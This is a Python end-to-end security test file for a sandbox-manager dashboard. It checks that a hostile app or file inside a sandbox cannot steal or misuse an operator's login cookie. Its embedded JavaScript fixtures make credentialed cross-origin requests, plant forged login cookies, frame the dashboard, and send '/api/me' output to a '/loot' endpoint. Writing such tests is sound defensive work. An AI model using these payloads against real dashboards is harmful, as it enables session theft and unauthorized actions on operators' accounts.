"""An operator is signed in, and looks at a sandbox whose app and files want that login."""

from __future__ import annotations

import json
import secrets

import httpx
import pytest
from e2b import AsyncSandbox
from playwright.async_api import BrowserContext, Error, Page, expect

from support.eventually import eventually
from support.hostile_app import APP
from support.keeper_process import Keeper

pytestmark = pytest.mark.asyncio(loop_scope="session")

PAGE = """<!doctype html><title>hostile</title><script type="module">
const [keepers, engine, id, file] = VALUES;
const text = async (...asked) => (await fetch(...asked)).text();
const tries = {
  own: () => text("/echo"),
  cookie: () => document.cookie,
  engine: () => text(engine, {credentials: "include",
    headers: {"E2b-Sandbox-Id": id, "E2b-Sandbox-Port": "3000"}}),
};
for (const keeper of keepers) {
  tries[keeper + " reads"] = () => text(keeper + "/api/me", {credentials: "include"});
  tries[keeper + " acts"] = () => text(keeper + "/api/switches",
    {method: "PATCH", credentials: "include", body: '{"sse": false}'});
  tries[keeper + " signs out"] = () => text(keeper + "/api/logout",
    {method: "POST", mode: "no-cors", credentials: "include"});
  tries[keeper + " frames"] = () => new Promise((done) => {
    const frame = Object.assign(document.createElement("iframe"), {src: keeper + "/"});
    frame.onload = () => {
      try { done(frame.contentDocument.body.innerHTML); } catch (error) { done(`${error}`); }
    };
    document.body.append(frame);
  });
}
for (const domain of ["localhost", "sandkeeper.localhost", "127.0.0.1"])
  document.cookie = `sandkeeper_login=planted; path=/; domain=${domain}`;
document.body.append(Object.assign(document.createElement("iframe"), {src: file}));
const results = {};
for (const [name, attempt] of Object.entries(tries))
  results[name] = await Promise.resolve().then(attempt).catch((error) => `failed: ${error}`);
window.results = results;
</script><body></body>"""

FILE = """<!doctype html><title>loot</title><script>
fetch("/loot", {headers: {"E2b-Sandbox-Id": ID, "E2b-Sandbox-Port": "3000"}});
fetch("http://" + location.hostname + ":KEEPER/api/me", {credentials: "include"})
  .then((answer) => answer.text())
  .then((text) => fetch("/loot?" + text,
    {headers: {"E2b-Sandbox-Id": ID, "E2b-Sandbox-Port": "3000"}}));
document.title = "run";
</script>"""


async def start_hostile(product: Keeper) -> tuple[str, AsyncSandbox]:
    """A sandbox of the keeper in which the app listens; gives its project, too."""
    project = f"hostile-{secrets.token_hex(4)}"
    with product.client() as api:
        made = api.put(f"/api/sandboxes/{project}", json={"policy": {"idleTimeoutMs": 600_000}})
    sandbox = await AsyncSandbox.connect(made.json()["instanceId"], **product.sdk_options())
    await sandbox.files.write("app.py", APP)
    await sandbox.commands.run("python3 app.py", background=True, timeout=0)
    return project, sandbox


async def sign_in(page: Page, product: Keeper) -> str:
    """Sign in as an operator does who types the address; give the login's value."""
    await page.goto(product.url + "/")
    await page.get_by_label("Operator or viewer key").fill(product.key)
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("button", name="Sign out")).to_be_visible()
    (login,) = [one for one in await page.context.cookies() if "sandkeeper_login" in one["name"]]
    return login["value"]


async def read_seen(sandbox: AsyncSandbox) -> str:
    return await sandbox.files.read("seen.jsonl")


async def test_neither_an_app_nor_a_file_of_a_sandbox_gets_the_operators_login(
    page: Page, context: BrowserContext, product: Keeper
) -> None:
    project, sandbox = await start_hostile(product)
    login = await sign_in(page, product)
    engine_port = product.engine_url.rpartition(":")[2]
    keeper_port = product.url.rpartition(":")[2]
    origin = f"http://3000-{sandbox.sandbox_id}.localhost:{engine_port}"

    loot = FILE.replace("ID", json.dumps(sandbox.sandbox_id)).replace("KEEPER", keeper_port)
    await sandbox.files.write("loot.html", loot)
    file = sandbox.download_url("/home/user/loot.html")
    values = [[product.url, product.dashboard_url], product.engine_url, sandbox.sandbox_id, file]
    await sandbox.files.write("page.html", PAGE.replace("VALUES", json.dumps(values)))

    async def is_up() -> bool:
        headers = {"Host": origin.removeprefix("http://")}
        async with httpx.AsyncClient() as client:
            return (await client.get(product.engine_url, headers=headers)).status_code == 200

    await eventually(is_up, within_s=60)

    # The app's page, open beside the dashboard in the same browser.
    visit = await context.new_page()
    await visit.goto(f"{origin}/page")
    results = await (await visit.wait_for_function("window.results")).json_value()
    assert "cookie" not in dict(json.loads(results["own"]))
    for name, told in results.items():
        assert login not in told, name
        assert '"role"' not in told, f"{name}: an answer of the API was read"
    assert results["engine"].startswith("failed")

    # The file, opened by its link on the very name that the operator typed.
    opened = await context.new_page()
    async with opened.expect_download() as download:
        with pytest.raises(Error, match=r"Download is starting|ERR_ABORTED"):
            await opened.goto(file)
    assert (await download.value).suggested_filename == "loot.html"
    assert await opened.title() != "run"

    seen = await read_seen(sandbox)
    assert "/echo" in seen
    assert "/loot" not in seen, "the file ran as a page"
    assert login not in seen
    assert product.key not in seen

    # The login is what it was: not planted over, not signed out, and nothing was switched.
    await page.goto(product.dashboard_url + "/")
    await expect(page.get_by_role("button", name="Sign out")).to_be_visible()
    assert page.url == product.dashboard_url + "/"
    with product.client() as api:
        assert api.get("/api/switches").json()["switches"]["sse"] is True
        api.delete(f"/api/sandboxes/{project}")


async def test_a_copied_login_ends_when_its_operator_signs_out(page: Page, product: Keeper) -> None:
    login = await sign_in(page, product)
    copied = {"Cookie": f"sandkeeper_login={login}"}
    async with httpx.AsyncClient(base_url=product.url, headers=copied) as thief:
        assert (await thief.get("/api/me")).status_code == 200
        await page.get_by_role("button", name="Sign out").click()
        await expect(page.get_by_label("Operator or viewer key")).to_be_visible()
        assert (await thief.get("/api/me")).status_code == 401
